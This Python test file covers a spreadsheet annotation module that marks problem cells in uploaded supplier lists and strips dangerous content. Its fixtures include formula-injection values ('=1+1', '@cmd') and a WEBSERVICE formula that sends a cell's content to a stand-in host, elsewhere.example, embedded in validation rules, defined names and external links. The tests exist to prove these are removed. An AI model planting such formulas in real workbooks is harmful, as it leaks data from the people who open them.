import io
import time
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
from openpyxl.worksheet.datavalidation import DataValidation
from tests.engine.intake.files import csv_of, ods_of, saved, xls_of, xlsx_of

from akkoord.engine.intake import CellPlace, MendedText, read_list
from akkoord.engine.intake.annotation import FILLS, annotate
from akkoord.engine.problems import Severity

ROWS = [
    ["name", "address", "country", "remark"],
    ["Alpha Garments Ltd", "12 Mill Road, Gazipur 1704", "Bangladesh", "=1+1"],
    ["Beta Textile", "Fabrika Cad. No: 5, Bursa 16000", "Atlantis", "-12"],
    ["Gamma", "P.O. Box 7, Mill Road, Gazipur 1704", "Bangladesh", "@cmd"],
]
MAKERS = {"csv": csv_of, "xlsx": lambda rows: xlsx_of({"List": rows}), "xls": xls_of, "ods": ods_of}


def annotated(content, filename, **options):
    result = read_list(content, filename=filename)
    return openpyxl.load_workbook(io.BytesIO(annotate(content, filename=filename, result=result, **options)))


def fill_of(cell):
    return next(
        (severity for severity, fill in FILLS.items() if fill.fgColor.rgb == cell.fill.fgColor.rgb), None
    )


@pytest.mark.parametrize("kind", MAKERS)
def test_annotate_puts_mended_cells_beside_those_that_came(kind):
    sheet = "List" if kind == "xlsx" else read_list(MAKERS[kind](ROWS), filename=f"l.{kind}").sheets[0].name
    places = [CellPlace(sheet, 3, "country"), CellPlace(sheet, 3, "city")]
    mended = [
        MendedText(places[0], title="country", came="Atlantis", now="=Turkey", by="Anna", on="1 May"),
        MendedText(places[1], title="town or city", came="", now="Bursa", by="Anna", on="1 May"),
    ]
    workbook = annotated(MAKERS[kind](ROWS), f"list.{kind}", mended=mended)
    own, beside, problems = workbook.worksheets
    assert (own["C3"].value, beside.title, problems.title) == ("Atlantis", "Mended", "Problems")
    assert own["C3"].comment.text.startswith("Mended by Anna: “=Turkey”.")
    assert [[cell.value for cell in row] for row in beside.iter_rows(min_row=2)] == [
        [sheet, "3", "country", "Atlantis", "=Turkey", "Anna", "1 May"],
        [sheet, "3", "town or city", None, "Bursa", "Anna", "1 May"],
    ]
    assert beside["E2"].data_type == "s"


@pytest.mark.parametrize("kind", MAKERS)
def test_annotate_marks_cells_and_lists_problems(kind):
    workbook = annotated(MAKERS[kind](ROWS), f"list.{kind}")
    sheet, problems = workbook.worksheets
    assert fill_of(sheet["C3"]) is Severity.BLOCK
    assert "not a country that we know" in sheet["C3"].comment.text
    assert fill_of(sheet["B4"]) is Severity.WARN
    assert fill_of(sheet["A2"]) is None
    assert [cell.value for cell in sheet["B"]] == [row[1] for row in ROWS]
    assert problems.title == "Problems"
    assert [cell.value for cell in problems[1]] == [
        "How grave",
        "Sheet",
        "Where",
        "Heading",
        "Finding",
        "What to do",
    ]
    assert [cell.value for cell in problems[2]][2:5] == [
        "3",
        "country",
        "“Atlantis” is not a country that we know.",
    ]


@pytest.mark.parametrize("kind", MAKERS)
def test_annotate_leaves_nothing_that_can_run(kind):
    workbook = annotated(MAKERS[kind](ROWS), f"list.{kind}")
    types = {cell.data_type for sheet in workbook for row in sheet.iter_rows() for cell in row}
    assert types <= {"s", "inlineStr", "n"}


def test_annotate_keeps_the_shape_of_a_workbook():
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_of({"Notes": [["Hello"]], "List": ROWS})))
    sheet = workbook["List"]
    sheet.column_dimensions["A"].width = 44
    sheet["A1"].font = openpyxl.styles.Font(bold=True, color="FF0000FF")
    sheet["E1"], sheet["E2"] = "price", 12.5
    sheet["E2"].number_format = "0.00 €"
    again = annotated(saved(workbook), "list.xlsx")
    assert again.sheetnames == ["Notes", "List", "Problems"]
    assert again["List"].column_dimensions["A"].width == 44
    assert again["List"]["A1"].font.color.rgb == "FF0000FF"
    assert (again["List"]["E2"].value, again["List"]["E2"].number_format) == (12.5, "0.00 €")


def test_annotated_file_can_be_handed_in_again():
    content = xlsx_of({"Problems": ROWS})
    first = read_list(content, filename="list.xlsx")
    returned = annotate(content, filename="list.xlsx", result=first)
    again = read_list(returned, filename="list.xlsx")
    assert [reading.name for reading in again.sheets if reading.is_used] == ["Problems"]
    assert again.rows["cells"].to_pylist() == first.rows["cells"].to_pylist()


def test_annotate_a_workbook_that_openpyxl_cannot_open():
    content = xls_of(ROWS)
    workbook = annotated(content, "list.xlsx")
    assert workbook.sheetnames == ["List", "Problems"]


def test_annotate_a_file_that_cannot_be_read():
    workbook = annotated(b"%PDF-1.7", "list.xlsx")
    assert workbook.sheetnames == ["Problems"]
    assert workbook["Problems"]["E2"].value == "This is a PDF, whatever its name says."


def test_annotate_in_another_language():
    workbook = annotated(
        csv_of(ROWS), "list.csv", translate=lambda text: {"Problems": "Problemen"}.get(text, text)
    )
    assert workbook.sheetnames == ["list", "Problemen"]


@given(st.lists(st.lists(st.text(max_size=20), min_size=3, max_size=3), min_size=1, max_size=5))
@settings(max_examples=40)
def test_annotate_takes_any_text(rows):
    content = csv_of([["name", "address", "country"], *rows], encoding="utf-8-sig")
    assert annotated(content, "list.csv").sheetnames[-1] == "Problems"


ELSEWHERE = 'WEBSERVICE("https://elsewhere.example/"&B2)'


def workbook_that_asks_elsewhere():
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_of({"List": ROWS})))
    sheet = workbook.active
    sheet["A2"].hyperlink = "https://elsewhere.example/"
    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=[f"{ELSEWHERE}=1"]))
    validation = DataValidation(type="custom", formula1=ELSEWHERE, sqref="A2")
    sheet.add_data_validation(validation)
    workbook.defined_names["name"] = DefinedName("name", attr_text=ELSEWHERE)
    sheet.defined_names["own"] = DefinedName("own", attr_text=ELSEWHERE)
    link = ExternalLink(externalBook=ExternalBook(id="rId1"))
    link.file_link = Relationship(
        type="externalLinkPath", Target="file://elsewhere.example/x.xlsx", TargetMode="External", Id="rId1"
    )
    workbook._external_links.append(link)  # openpyxl offers no other way to write one
    return saved(workbook)


def parts_that_name(content, text):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name for name in archive.namelist() if text in archive.read(name)}


def test_annotate_takes_out_what_asks_elsewhere():
    content = workbook_that_asks_elsewhere()
    assert len(parts_that_name(content, b"elsewhere.example")) == 4
    result = read_list(content, filename="list.xlsx")
    answer = annotate(content, filename="list.xlsx", result=result)
    assert parts_that_name(answer, b"elsewhere.example") == set()
    assert openpyxl.load_workbook(io.BytesIO(answer))["List"]["A2"].value == ROWS[1][0]


def test_list_with_a_stray_cell_in_the_last_row_comes_back_soon():
    rows = [["name", "address", "country"], ["Alpha", "", "Bangladesh"]]
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_of({"List": rows})))
    workbook.active.cell(1_048_576, 3).value = "end"
    content = saved(workbook)
    result = read_list(content, filename="list.xlsx")
    began = time.monotonic()
    sheet = openpyxl.load_workbook(
        io.BytesIO(annotate(content, filename="list.xlsx", result=result)), read_only=True
    )["List"]
    assert time.monotonic() - began < 15
    assert [cell.value for cell in next(sheet.iter_rows(2, 2))] == ["Alpha", None, "Bangladesh"]
